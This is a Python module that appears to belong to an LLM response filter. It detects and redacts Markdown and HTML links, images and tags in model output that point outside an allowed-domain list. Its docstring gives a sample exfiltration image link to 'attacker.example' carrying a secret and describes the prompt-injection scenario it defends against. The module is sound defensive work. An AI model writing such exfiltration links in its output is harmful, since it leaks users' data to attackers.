"""Links and images in model output that point outside a domain allowlist (OWASP LLM05:2025 / LLM10:2026).

    detector: unsafe_links
    direction: response
    action: redact
    params:
      allowed_domains: [example.com, "*.example.com"]

A prompt-injected model can exfiltrate data by writing `![x](https://attacker.example/?q=<secret>)`: the
client renders the image and fetches the URL without a click. This detector finds, without ever fetching
anything, every construct a Markdown or HTML renderer could turn into a request or a link:

* Markdown images `![alt](url "title")`, links `[text](url)`, reference definitions `[id]: url` (which
  `![alt][id]` images use) and autolinks `<https://...>`;
* HTML tags with a URL attribute (`src`, `href`, `srcset`, `poster`, `action`, `data`, ...), an event
  handler (`on...=`) or a style that loads something (`url(...)`), and tags that are never safe (`script`,
  `style`, `base`, `meta`, `object`, `embed`, ...), in any case and any quoting;
* bare URLs (`https://...`, `www....`) when `bare_urls: true`.

A target is safe when its scheme is listed in `schemes` and its host is allowed (exact host, or a subdomain of
a `*.suffix` entry), or when it is relative and `allow_relative` is set. Hosts are parsed the way browsers do
(WHATWG: userinfo, backslashes, percent-encoded and IDNA hosts, numeric IPv4, ports, trailing dots, case) and
also the way RFC 3986 parsers do: a URL is safe only if every reading gives an allowed host, and one whose
host cannot be parsed is unsafe. HTML character references and Markdown backslash escapes are decoded first.

Each finding carries a replacement that neutralises it and keeps the readable text: an image becomes
`[image removed: alt]`, a link its text, a reference definition nothing, an autolink or bare URL
`[link removed]`, an HTML tag nothing (`script`, `style`, `iframe`, `object` blocks with their content up to
the closing tag, `<a href=...>text</a>` its text). Labels: `unsafe_image`, `unsafe_link`, `unsafe_html`,
`unsafe_url`.

Everything is bounded (URL 2048 characters, link text/alt/title 512, tag 4096, script block 8192), so the
streaming hold-back is too. A construct longer than its bound is neutralised by removing its opening
characters. Constructs inside code spans and blocks are treated like any others.

Redaction must not create what it removes: a replacement never joins the text around it into a new link or tag
(see `_links/rewrite.py`), and a destination or tag that a replacement inside it could turn unsafe is removed
itself. The parts live in the private package `extproc/detectors/_links/`; this module wires them together.
"""

from __future__ import annotations

from pydantic import BaseModel, ConfigDict, Field, field_validator, model_validator

from extproc.detectors import register
from extproc.detectors._links.bare import BareUrls
from extproc.detectors._links.grammar import CONTAINER_MAX, SCHEME, TAG_MAX, TAIL_MAX, TEXT_MAX, URL_MAX
from extproc.detectors._links.holding import Hold
from extproc.detectors._links.hosts import normalize_allowed
from extproc.detectors._links.html import HtmlRules
from extproc.detectors._links.markdown import MarkdownRules
from extproc.detectors._links.rewrite import separate, set_replacements
from extproc.detectors._links.text_index import Hit, Index
from extproc.detectors._links.urls import UrlPolicy
from extproc.detectors.base import Detector
from extproc.model import Finding

__all__ = ["CONTAINER_MAX", "TAG_MAX", "TAIL_MAX", "TEXT_MAX", "URL_MAX", "UnsafeLinksDetector",
           "UnsafeLinksParams"]

_NEVER_LISTED = frozenset({"javascript", "vbscript", "data"})


class UnsafeLinksParams(BaseModel):
    model_config = ConfigDict(extra="forbid")
    allowed_domains: list[str] = Field(
        default_factory=list,
        description="hosts links and images may point to: `example.com` (exactly that host) or "
        "`*.example.com` (any subdomain, not the apex); IDNA and IP addresses allowed; ports are not part of "
        "the match")
    allow_relative: bool = Field(True, description="relative URLs (no scheme, no host) are safe")
    images_only: bool = Field(
        False, description="only what renders without a click (images, HTML resources, scripts, reference "
        "definitions); leave links alone")
    bare_urls: bool = Field(
        False, description="also neutralise bare `https://...` and `www....` URLs in text")
    schemes: list[str] = Field(
        default_factory=lambda: ["http", "https"],
        description="schemes a safe URL may use; any other (javascript:, data:, ...) is always unsafe")

    @field_validator("allowed_domains")
    @classmethod
    def _valid_domains(cls, values: list[str]) -> list[str]:
        return [normalize_allowed(value) for value in values]

    @field_validator("schemes")
    @classmethod
    def _valid_schemes(cls, values: list[str]) -> list[str]:
        out = []
        for value in values:
            scheme = value.strip().lower()
            if not SCHEME.fullmatch(scheme + ":") or len(scheme) > 32:
                raise ValueError(f"scheme {value!r} is not a URL scheme (letters, digits, `+.-`)")
            if scheme in _NEVER_LISTED:
                raise ValueError(f"scheme {scheme!r} can never be safe in model output")
            out.append(scheme)
        return out

    @model_validator(mode="after")
    def _consistent(self) -> UnsafeLinksParams:
        if self.images_only and self.bare_urls:
            raise ValueError("bare_urls has no effect with images_only: true (bare URLs are links)")
        return self


@register
class UnsafeLinksDetector(Detector):
    name = "unsafe_links"
    owasp = ("LLM05:2025", "LLM10:2026")
    normalized = False  # hosts must be judged as the browser will see them
    Params = UnsafeLinksParams
    max_span = CONTAINER_MAX

    def __init__(self, params: UnsafeLinksParams | None = None) -> None:  # type: ignore[override]
        super().__init__(params)
        p: UnsafeLinksParams = self.params  # type: ignore[assignment]
        urls = UrlPolicy(p)
        self._html = HtmlRules(urls, p.images_only)
        self._markdown = MarkdownRules(urls, self._html, p.images_only)
        self._bare = BareUrls(urls) if p.bare_urls else None
        self._hold = Hold(self._html, self._bare, p.images_only, self.max_span)

    def find(self, text: str) -> list[Finding]:
        if self._bare is None and "<" not in text and "]" not in text:
            return []  # every Markdown construct has a `]`, every HTML one a `<` (most stream deltas: neither)
        return self.find_all(text)

    def find_all(self, text: str) -> list[Finding]:
        """`find` without its shortcut (tests compare the two)."""
        index = Index(text)
        hits = self._html.find(index) + self._markdown.find(index) + self._markdown.autolinks(index)
        if self._bare is not None:
            hits += self._bare.find(index)
        hits += _lone_angles(index, hits)
        if not hits:
            return []
        hits = list({(h.start, h.end, h.label): h for h in hits}.values())
        set_replacements(text, hits, self._bare)
        separate(text, hits)  # also sorts them by (start, -end)
        return [Finding(self.name, h.label, h.start, h.end, replacement=h.replacement) for h in hits]

    def hold(self, text: str) -> int:
        if self._bare is None and not any(char in text for char in "<[]!"):
            return 0  # no candidate start (the only places Hold looks from)
        return self._hold.hold(text)

    def hold_all(self, text: str) -> int:
        """`hold` without its shortcut (tests compare the two)."""
        return self._hold.hold(text)


def _lone_angles(index: Index, hits: list[Hit]) -> list[Hit]:
    """A `<` right before a finding would meet its replacement: `<[t](..) onerror=..>` -> `<t onerror=..>`."""
    starts = {h.start for h in hits}
    found: list[Hit] = []
    for position in reversed(index.positions("<")):
        if position + 1 in starts:
            found.append(Hit(position, position + 1, "unsafe_html", "html"))
            starts.add(position)
    return found
